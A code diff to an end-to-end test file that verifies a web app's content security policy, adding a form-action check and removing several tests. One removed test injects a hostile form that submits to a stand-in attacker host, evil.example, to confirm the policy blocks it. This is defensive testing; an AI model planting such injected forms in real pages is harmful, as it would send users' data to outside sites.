@@ -7,15 +7,6 @@ import { test } from "../support/test.ts";
 
 const url = process.env.E2E_URL ?? "";
 const paths = locales.flatMap((locale) => indexedPages.map((href) => getPathname({ href, locale })));
-const evaluations = ["/en/evaluation", "/es/evaluacion"];
-
-/** Collects the errors that the browser logs from now on into the returned list. */
-function collectConsoleErrors(page: Page): string[] {
-  const errors: string[] = [];
-  page.on("console", (message) => message.type() === "error" && errors.push(message.text()));
-  page.on("pageerror", (error) => errors.push(error.message));
-  return errors;
-}
 
 /** Serves the page with its original headers and with `html` at the end of its body. */
 async function injectHtml(page: Page, path: string, html: string): Promise<void> {
@@ -37,7 +28,7 @@ async function expectInteractiveForm(page: Page): Promise<void> {
 }
 
 // demonstration.spec.ts opens these pages in a browser, and fails if the browser reports a violation.
-test("sends each page with a content security policy without unsafe sources, which allows its inline scripts alone", async () => {
+test("sends each page with a content security policy that allows only its own inline scripts", async () => {
   for (const path of paths) {
     const response = await fetch(`${url}${path}`);
     const headers = Object.fromEntries(response.headers);
@@ -45,6 +36,7 @@ test("sends each page with a content security policy without unsafe sources, whi
     expect(response.status, path).toBe(200);
     const [, hashes = ""] = /script-src 'self'((?: 'sha256-[\w+/=]+')+); style-src 'self';/.exec(policy) ?? [];
     expect(policy).toMatch(/^default-src 'none'; script-src /);
+    expect(policy).toContain("form-action 'self'");
     expect(policy).not.toContain("unsafe");
     const html = await response.text();
     const scripts = [...html.matchAll(/<script(?<attributes>[^>]*)>(?<text>.*?)<\/script>/gs)].flatMap(({ groups }) =>
@@ -63,13 +55,6 @@ test("sends each page with a content security policy without unsafe sources, whi
     expect(Object.keys(headers).filter((name) => /^x-(nextjs|next|middleware|powered)/.test(name))).toEqual([]);
   }
 });
-
-for (const path of evaluations) {
-  test(`makes ${path} interactive under its content security policy`, async ({ page }) => {
-    await page.goto(`${url}${path}`);
-    await expectInteractiveForm(page);
-  });
-}
 
 test("blocks injected scripts, and keeps the page working", async ({ page }) => {
   const mark = "document.documentElement.dataset.injected = 'ran'";
@@ -96,40 +81,6 @@ test("blocks injected scripts, and keeps the page working", async ({ page }) => 
   await expectInteractiveForm(page);
   expect(await page.evaluate(() => document.documentElement.dataset.injected)).toBeUndefined();
   expect(refused.filter((text) => text.includes("Content Security Policy")).length).toBeGreaterThanOrEqual(8);
-});
-
-test("blocks an injected form that sends to another site, and ignores an injected style", async ({ page }) => {
-  await injectHtml(
-    page,
-    "/en/evaluation",
-    '<style>body{rotate:1deg}</style><form id="injected" action="https://evil.example/"><input name="a"></form>',
-  );
-  const asked: string[] = [];
-  page.on("request", (request) => asked.push(request.url()));
-  await page.goto(`${url}/en/evaluation`);
-  const errors = collectConsoleErrors(page);
-  await page.evaluate(() => document.querySelector<HTMLFormElement>("form#injected")?.submit());
-  await expect.poll(() => errors.join()).toContain("form-action");
-  expect(await page.evaluate(() => getComputedStyle(document.body).rotate)).toBe("none");
-  expect(asked.filter((each) => !each.startsWith(url))).toEqual([]);
-});
-
-test("forbids the evaluation of text as code", async ({ page }) => {
-  await page.goto(`${url}/en/evaluation`);
-  // Evaluate in a later task, because the browser's debugger, which may evaluate code, must not be the caller.
-  const outcome = await page.evaluate(
-    () =>
-      new Promise<string>((resolve) => {
-        setTimeout(() => {
-          try {
-            resolve(String(new Function("return 'ran'")()));
-          } catch (error) {
-            resolve(error instanceof Error ? error.name : "");
-          }
-        });
-      }),
-  );
-  expect(outcome).toBe("EvalError");
 });
 
 test("sends security headers with files and redirects, and no page headers with API responses", async ({
